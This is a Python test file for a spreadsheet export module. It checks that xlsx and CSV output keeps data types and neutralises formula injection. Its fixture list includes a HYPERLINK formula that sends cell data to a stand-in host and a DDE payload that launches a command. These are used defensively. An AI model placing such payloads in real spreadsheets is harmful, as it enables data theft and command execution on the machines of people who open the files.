"""Spreadsheet files keep types and never carry a live formula."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import psutil
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from app.documents.xlsx import MAX_TEXT, csv_rows, guard, strip_guard, write_rows

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
]


def sheet(path):
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python(skip_empty_area=False)


@pytest.mark.must_never(82)
def test_fourteen_payloads_come_back_as_text(tmp_path):
    path = tmp_path / "out.xlsx"
    assert write_rows(path, ["值", "=2+2"], [(p, p) for p in PAYLOADS]) == len(PAYLOADS) == 14
    back = sheet(path)
    assert back[0] == ["值", "=2+2"]
    assert [row[0].replace("\r\n", "\r") for row in back[1:]] == PAYLOADS
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml


def test_types_are_kept(tmp_path):
    path = tmp_path / "out.xlsx"
    moment = datetime(2026, 11, 20, 6, 19, 5, tzinfo=UTC)
    row = ("䶮𬭸℃", 12, 2.5, Decimal("0.05"), True, None, date(2026, 11, 20), moment, 123456789012345678, "007")
    write_rows(path, [str(i) for i in range(len(row))], [row])
    local = datetime(2026, 11, 20, 14, 19, 5)
    assert sheet(path)[1] == [
        "䶮𬭸℃",
        12,
        2.5,
        0.05,
        True,
        "",
        date(2026, 11, 20),
        local,
        "123456789012345678",
        "007",
    ]


def test_a_time_after_a_plain_date_is_not_cut_off(tmp_path):
    path = tmp_path / "out.xlsx"
    write_rows(path, ["日"], [[None], [date(2026, 1, 2)], [datetime(2026, 1, 2, 3, 4, 5)], [date(1899, 1, 1)]])
    assert [row[0] for row in sheet(path)[1:]] == ["", date(2026, 1, 2), "2026-01-02 03:04:05", "1899-01-01"]


def test_no_rows_still_give_the_heading(tmp_path):
    assert write_rows(tmp_path / "out.xlsx", ["甲", "乙"], []) == 0
    assert sheet(tmp_path / "out.xlsx") == [["甲", "乙"]]


def test_hard_texts_do_not_break_the_file(tmp_path):
    path = tmp_path / "out.xlsx"
    write_rows(path, ["v"], [["a\x00b\ud800c"], ["长" * 40_000], [float("nan")]])
    back = sheet(path)
    assert back[1] == ["abc"]
    assert len(back[2][0]) == MAX_TEXT
    assert back[2][0].endswith("（内容过长，已截断）")


def test_errors_leave_no_file(tmp_path):
    def rows():
        yield [1]
        raise RuntimeError("gone")

    with pytest.raises(RuntimeError):
        write_rows(tmp_path / "out.xlsx", ["a"], rows())
    with pytest.raises(ValueError, match="列名"):
        write_rows(tmp_path / "out.xlsx", ["a", "a"], [])
    with pytest.raises(ValueError, match="第 2 行"):
        write_rows(tmp_path / "out.xlsx", ["a"], [[1], [1, 2]])
    assert list(tmp_path.iterdir()) == []


def test_memory_stays_flat(tmp_path):
    def rows(n):
        return ([f"器具{i}", i, date(2026, 1, 1), "压力表" * 5] for i in range(n))

    columns = ["名称", "数", "日期", "说明"]
    write_rows(tmp_path / "warm.xlsx", columns, rows(2_000))
    before = psutil.Process().memory_info().rss
    assert write_rows(tmp_path / "out.xlsx", columns, rows(40_000)) == 40_000
    assert psutil.Process().memory_info().rss - before < 25 * 2**20


def test_csv_begins_with_bom_before_rows_are_read():
    def rows():
        raise AssertionError("read too early")
        yield

    assert next(csv_rows(["甲", "=乙"], rows())) == b"\xef\xbb\xbf" + "甲,'=乙\r\n".encode()


@pytest.mark.must_never(82)
def test_csv_guards_text_and_leaves_numbers():
    data = b"".join(csv_rows(["值", "数"], [(p, -5) for p in PAYLOADS])).decode("utf-8-sig")
    back = list(csv.reader(io.StringIO(data, newline="")))[1:]
    assert [cell for cell, _ in back] == ["'" + p for p in PAYLOADS]
    assert {number for _, number in back} == {"-5"}
    assert [strip_guard(cell) for cell, _ in back] == PAYLOADS


@given(st.text(alphabet="'=+-@\t\r\n＝ab中", max_size=6))
@pytest.mark.must_never(82)
def test_guard_can_always_be_undone(value):
    assert strip_guard(guard(value)) == value
    assert guard(value)[:1] not in set("=+-@\t\r\n＝")
